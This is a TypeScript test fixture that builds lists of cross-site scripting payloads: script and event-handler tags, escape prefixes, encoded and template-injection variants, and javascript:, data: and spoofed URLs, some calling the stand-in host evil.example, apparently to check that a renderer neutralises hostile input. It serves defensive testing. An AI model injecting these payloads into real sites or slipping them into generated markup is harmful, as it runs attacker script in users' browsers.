/** What a payload does where it runs: a dialog, and a request to another machine. */
const ACT = "alert(1),fetch('https://evil.example/ran')";
const FAR = "https://evil.example/loaded";
/** Every element of a payload carries it, so that one that became an element is found whatever it is. */
const MARK = "data-attack";

/** Elements that run or load something as soon as they stand in a document, or wait for the reader. */
const ELEMENTS: readonly string[] = [
  `<script ${MARK}>${ACT}</script>`,
  `<script ${MARK} src="${FAR}.js"></script>`,
  `<img ${MARK} src=x onerror="${ACT}">`,
  `<image ${MARK} src=x onerror="${ACT}">`,
  `<img ${MARK} src=${FAR}.png>`,
  `<svg ${MARK} onload="${ACT}">`,
  `<svg ${MARK}><script>${ACT}</script></svg>`,
  `<svg ${MARK}><animate onbegin="${ACT}" attributeName=x dur=1s></svg>`,
  `<svg ${MARK}><use href="data:image/svg+xml,<svg id=x onload='alert(1)'/>#x"></svg>`,
  `<svg ${MARK}><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
  `<svg ${MARK}><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
  `<math ${MARK}><mtext><table><mglyph><style><img src=x onerror="${ACT}">`,
  `<iframe ${MARK} srcdoc="<script>${ACT}</script>"></iframe>`,
  `<iframe ${MARK} src="javascript:alert(1)"></iframe>`,
  `<object ${MARK} data="javascript:alert(1)"></object>`,
  `<embed ${MARK} src="${FAR}.swf">`,
  `<video ${MARK}><source onerror="${ACT}"></video>`,
  `<audio ${MARK} src=x onerror="${ACT}"></audio>`,
  `<body ${MARK} onload="${ACT}">`,
  `<input ${MARK} autofocus onfocus="${ACT}">`,
  `<select ${MARK} autofocus onfocus="${ACT}"></select>`,
  `<details ${MARK} open ontoggle="${ACT}">x</details>`,
  `<dialog ${MARK} open onclose="${ACT}">x</dialog>`,
  `<marquee ${MARK} onstart="${ACT}">x</marquee>`,
  `<div ${MARK} style="animation-name:x" onanimationstart="${ACT}">x</div>`,
  `<div ${MARK} onpointerover="${ACT}" style="position:fixed;inset:0">x</div>`,
  `<a ${MARK} href="javascript:alert(1)" onclick="${ACT}">x</a>`,
  `<form ${MARK} action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>`,
  `<style ${MARK}>@import "${FAR}.css";*{background:url(${FAR})}</style>`,
  `<link ${MARK} rel=stylesheet href="${FAR}.css">`,
  `<base ${MARK} href="https://evil.example/">`,
  `<meta ${MARK} http-equiv=refresh content="0;url=${FAR}">`,
  `<template ${MARK} shadowrootmode=open><script>${ACT}</script></template>`,
  `<noscript ${MARK}><p title="</noscript><img src=x onerror='${ACT}'>">`,
  `<x-attack ${MARK} onclick="${ACT}" tabindex=1 id=x>x</x-attack>`,
  `<table ${MARK} background="${FAR}"><tr><td>x`,
];

/** What may stand before a text, closed from within. */
const ESCAPES: readonly string[] = [
  "", '">', "'>", "</title>", "</script>", "</textarea></style></noscript>", "--><!---->", "]]>", "\" x='",
]; // prettier-ignore

/** The same in other clothes: entities, escapes, templates, TeX, names that objects have from birth. */
const DISGUISED: readonly string[] = [
  "&lt;img data-attack src=x onerror=alert(1)&gt;",
  "&#60;script data-attack&#62;alert(1)&#60;/script&#62;",
  "&#x3c;svg data-attack onload=alert(1)&#x3e;",
  "\\u003cimg data-attack src=x onerror=alert(1)\\u003e",
  "\\x3cscript data-attack\\x3ealert(1)\\x3c/script\\x3e",
  "%3Cimg%20data-attack%20src=x%20onerror=alert(1)%3E",
  "%253Cscript%253Ealert(1)%253C/script%253E",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "＜script data-attack＞alert(1)＜/script＞",
  "<scr<script data-attack>ipt>alert(1)</scr</script>ipt>",
  "<img data-attack src=`x` onerror=`alert(1)`",
  "<<script data-attack>alert(1)//<</script>",
  "<IMG DATA-ATTACK SRC=x ONERROR=alert(1)>",
  "<svg/data-attack/onload=alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "#{alert(1)}",
  "<%= alert(1) %>",
  "[click](javascript:alert(1))",
  "![x](https://evil.example/loaded.png)",
  "\\href{javascript:alert(1)}{x}",
  "$\\unicode{<img data-attack src=x onerror=alert(1)>}$",
  "';alert(1);//",
  "</script\u2028><script data-attack>alert(1)</script>",
  "javascript:/*--></title></style></textarea></script><svg data-attack onload=alert(1)>",
];

/** More than 300 texts that are markup, or part of it. */
export const MARKUP: readonly string[] = [
  ...ELEMENTS.flatMap((element) => ESCAPES.map((escape) => `${escape}${element}`)),
  ...DISGUISED,
];

/** Addresses that run, load or deceive where they become a link as they are. */
export const ADDRESSES: readonly string[] = [
  ...["javascript", "JaVaScRiPt", "vbscript", "livescript", "feed:javascript", "view-source:javascript"].map(
    (scheme) => `${scheme}:alert(1)`,
  ),
  ...["\u0001", "\u0000", " ", "\t", "\n", "\u00A0", "\u2028", "\uFEFF"].map(
    (sign) => `${sign}javascript:alert(1)`,
  ),
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java\u0000script:alert(1)",
  "javascript\t:alert(1)",
  "javascript://evil.example/%0Aalert(1)",
  "javascript:https://evil.example",
  "&#106;avascript:alert(1)",
  "%6Aavascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>",
  "blob:https://evil.example/1",
  "filesystem:https://evil.example/1",
  "file:///etc/passwd",
  "about:blank",
  "chrome://settings",
  "intent://evil.example#Intent;scheme=http;end",
  "ms-settings:privacy",
  "ftp://evil.example/",
  "ws://evil.example/",
  "//evil.example/",
  "\\\\evil.example\\x",
  "/\\evil.example",
  "https:evil.example",
  "https://cern.ch@evil.example/",
  "https://cern.ch:x@evil.example/",
  "https://evil.example/\" onclick=\"alert(1)",
  "https://evil.example/'><script data-attack>alert(1)</script>",
  "https://evil.example/\uD800",
  "https://[::1",
  "https://",
  "mailto:a@b?body=<script data-attack>alert(1)</script>",
  "../../graph/graph.json",
  "#\"><img data-attack src=x onerror=alert(1)>",
]; // prettier-ignore
